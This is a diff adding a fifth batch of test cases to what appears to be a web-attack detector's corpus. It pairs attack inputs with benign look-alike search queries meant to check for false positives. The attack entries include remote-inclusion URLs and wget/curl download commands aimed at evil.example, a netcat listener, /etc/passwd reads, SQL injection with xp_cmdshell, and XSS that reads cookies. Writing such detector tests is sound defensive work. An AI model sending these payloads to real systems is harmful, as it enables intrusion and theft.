@@ -2152,3 +2152,193 @@ q:note=Lưu ý: mang theo CCCD/CMND
 q:note=Xem thêm tại https://dichvucong.example.gov.vn/huong-dan
 """),
 ]
+
+# Fifth batch, written after round five and measured before round six.
+ATTACKS += [
+("rfi", "batch 5: OWASP WSTG-INPV-11.2; PHP allow_url_include; RFI with address hosts and trailing '?'", r"""
+q:inc=http://198.51.100.23/x.txt
+q:page=https://203.0.113.77:8443/payload
+q:file=ftp://198.51.100.23/pub/x
+q:theme=http://evil.example/t?
+q:_PHPLIB[libdir]=http://evil.example/lib/
+q:load=file://198.51.100.23/share/x.php
+"""),
+("command-injection", "batch 5: commands given whole as a parameter value (diagnostic pages), shell arithmetic and process substitution (bash manual)", r"""
+q:cmd=ls -la /
+q:x=ps aux
+q:x=netstat -tulpn
+q:x=uname -a
+q:x=cat /proc/version
+q:x=wget -O /tmp/x http://evil.example/x
+q:x=curl -o /tmp/s http://evil.example/s
+q:x=python3 -c 'import os;os.system("id")'
+q:x=nc -lvp 4444
+q:x=bash -c 'id'
+q:x=/usr/bin/env
+q:x=$((1+1))
+q:x=echo $((7*7))
+q:x=diff <(ls) <(ls /tmp)
+q:x=$(</etc/passwd)
+q:x=;alias ls='id'
+q:x=|| whoami #
+q:x=cmd.exe /c ver
+q:x=powershell.exe -Command Get-Process
+"""),
+("code-injection", "batch 5: PHP high-risk functions and superglobals named alone (PHP manual), Java and Python names", r"""
+q:f=shell_exec
+q:f=passthru
+q:f=phpinfo
+q:x=base64_decode
+q:x=$_SERVER
+q:x=$_GET
+q:x=call_user_func
+q:x=proc_open
+q:x=java.lang.Runtime
+q:x=javax.script.ScriptEngineManager
+q:x=__import__
+q:x=subprocess.Popen
+"""),
+("sqli", "batch 5: SQL functions and keywords alone or in short fragments (vendor manuals)", r"""
+q:x=sleep(10)
+q:x=benchmark(10000000,md5(1))
+q:x=pg_sleep(10)
+q:x=waitfor delay '0:0:10'
+q:x=@@version
+q:x=version()
+q:x=1 and 1=1
+q:x=1' and 1=1 and '1'='1
+q:x=(select 1)
+q:x=select user()
+q:x=select * from users
+q:x=select password from users where id=1
+q:x=insert into users(name) values('x')
+q:x=drop table users
+q:x=exec xp_cmdshell 'dir'
+q:x=load_file('/etc/passwd')
+"""),
+("protocol-abuse", "batch 5: control characters and IIS %u forms in the target (RFC 3986, CWE-176)", r"""
+qr:x=a%01b
+qr:x=%1b[31m
+qr:x=%7f
+qr:x=%u1234
+qr:x=%uFF0E%uFF0E/
+p:/%0b/admin
+"""),
+("scanner-ua", "batch 5: scanner markers in request paths (scanner documentation and honeypot write-ups)", r"""
+p:/w00tw00t.at.ISC.SANS.DFind:)
+p:/acunetix-wvs-test-for-some-inexistent-file
+p:/nessus_is_probing_you_/
+p:/NessusTest
+p:/nikto-test-1234.html
+"""),
+("xss", "batch 5: XSS through less common parameters and headers", r"""
+q:lang=en"><script>alert(1)</script>
+q:callback=<script>alert(1)</script>
+q:utm_source=<img src=x onerror=alert(1)>
+ua:"><svg/onload=alert(1)>
+ref:javascript:alert(document.cookie)
+q:x=<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>
+q:x=<noscript><p title="</noscript><img src=x onerror=alert(1)>">
+q:x=<iframe srcdoc='&lt;img src=x onerror=alert(1)&gt;'>
+"""),
+("path-traversal", "batch 5: traversal in header values and with mixed separators", r"""
+ref:https://portal.example/../../../../etc/passwd
+ua:../../../../../../windows/win.ini
+q:path=..\\..\\..\\..\\etc\\passwd
+q:path=.../.../.../etc/passwd
+q:path=..%c0%af../..%c0%af../etc/passwd
+"""),
+("secret-backup-probe", "batch 5: backups and dumps named after the host or date, admin consoles (WSTG-CONF-04/05)", r"""
+p:/backup_2026-12-07.zip
+p:/portal.example.gov.vn.zip
+p:/db_backup.tar.gz
+p:/mysql.sql
+p:/export.sql
+p:/users.csv.bak
+p:/.env.bak
+p:/config.yml.bak
+p:/admin/phpinfo.php
+p:/jenkins/script
+p:/manager/status
+p:/druid/index.html
+p:/nacos/
+p:/hystrix.stream
+p:/env
+"""),
+]
+BENIGN += [
+("odd-but-legit-5", "batch 5: values that hold commands, function and file names for legitimate reasons (help search, IT service portal), numbers and symbols", r"""
+q:q=ls command
+q:q=ps aux meaning
+q:q=netstat là gì
+q:q=phpinfo page
+q:q=shell_exec php
+q:q=python subprocess
+q:q=java runtime environment
+q:q=sleep(10) in javascript
+q:q=version
+q:q=select
+q:q=exec
+q:q=drop
+q:q=users
+q:q=admin
+q:q=root
+q:q=passwd
+q:q=shadow
+q:q=hosts
+q:q=server
+q:q=env
+q:q=config
+q:q=backup
+q:q=dump truck
+q:q=mysql tutorial
+q:q=sql server 2022
+q:q=oracle database license
+q:q=postgres vs mysql
+q:q=mongodb $lookup
+q:q=$ne meaning
+q:q=regex ^abc$
+q:q=a|b|c
+q:q=x||y
+q:q=x && y
+q:q=1;2
+q:q=[0-9]+
+q:q=(a|b)*
+q:q={{ }}
+q:q=${ }
+q:q=<%= %>
+q:q=#{ }
+q:q=%d %s
+q:q=\n newline
+q:q=\\server\share
+q:q=C:\Users\Public
+q:q=/home/user
+q:q=/var/log
+q:q=/etc
+q:q=..
+q:q=../
+q:q=.htaccess tutorial
+q:q=robots.txt
+q:q=sitemap.xml
+q:q=http://
+q:q=https://www.example.gov.vn
+q:q=192.168.1.1
+q:q=127.0.0.1 meaning
+q:q=localhost
+q:q=169.254.169.254
+q:q=file:///
+q:q=ftp server
+q:q=ldap server
+q:q=xml parser
+q:q=json to xml
+q:q=cookie policy
+q:q=session expired
+q:q=PHPSESSID là gì
+q:q=script
+q:q=alert
+q:q=onerror
+q:q=iframe embed youtube
+q:q=svg icons
+q:q=img tag html
+"""),
+]
